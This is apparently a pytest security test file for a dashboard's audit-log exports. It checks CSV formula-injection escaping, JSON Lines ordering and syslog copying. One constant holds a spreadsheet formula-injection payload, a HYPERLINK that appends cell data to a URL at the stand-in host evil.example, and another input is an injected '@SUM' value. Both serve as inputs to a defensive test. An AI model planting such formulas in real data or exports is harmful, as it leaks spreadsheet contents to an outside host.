"""Exports and copies: text an anonymous client controls never runs as a spreadsheet formula;
JSON Lines for tools; every record copied to syslog (RFC 5424) for an off-host copy."""

import csv
import io
import json
import re
import socket

import httpx
import pytest

from tests.security.conftest import audit_rows

pytestmark = pytest.mark.cluster

FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"click")'


def anonymous_failed_login(url: str, name: str, user_agent: str) -> None:
    with httpx.Client(base_url=url, headers={"User-Agent": user_agent}) as client:
        client.get("/login")
        client.post("/login", data={"name": name, "password": "x", "csrf_token": client.cookies["incus_webui_csrf"]})


def test_a_formula_typed_as_a_login_name_is_exported_as_text(dashboard):
    anonymous_failed_login(dashboard.url, FORMULA, "@SUM(1+1)")
    exported = dashboard.get("/audit.csv", params={"action": "login", "target": FORMULA}).text
    rows = list(csv.DictReader(io.StringIO(exported)))
    assert rows, exported
    assert rows[0]["target"] == "'" + FORMULA and rows[0]["user_agent"] == "'@SUM(1+1)"
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_json_lines_export_one_record_a_line_oldest_first(dashboard):
    lines = dashboard.get("/audit.jsonl", params={"action": "login"}).text.splitlines()
    records = [json.loads(line) for line in lines]
    assert len(records) >= 2 and all(r["action"] == "login" for r in records)
    assert [r["id"] for r in records] == sorted(r["id"] for r in records)
    assert {"hash", "prev_hash", "key_id", "forwarded_for"} <= set(records[0])


def test_every_record_is_copied_to_syslog(own_dashboard):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as listener:
        listener.bind(("127.0.0.1", 0))
        listener.settimeout(20)
        port = listener.getsockname()[1]
        server = own_dashboard(INCUS_WEBUI_AUDIT_SYSLOG=f"udp://127.0.0.1:{port}")
        anonymous_failed_login(server.url, "syslogged", "probe")
        while True:
            message = listener.recv(65536).decode()
            if '"target":"syslogged"' in message:
                break
    # <PRI>1 TIMESTAMP HOSTNAME APP-NAME PROCID MSGID STRUCTURED-DATA MSG (authpriv.warning: a failed login)
    match = re.match(r"<(\d+)>1 (\S+Z) (\S+) incus-webui - audit - (\{.*\})$", message)
    assert match, message
    assert int(match.group(1)) == 10 * 8 + 4
    copied = json.loads(match.group(4))
    written = audit_rows(server, target="syslogged")[-1]
    assert copied["hash"] == written.hash and copied["outcome"] == "failed"
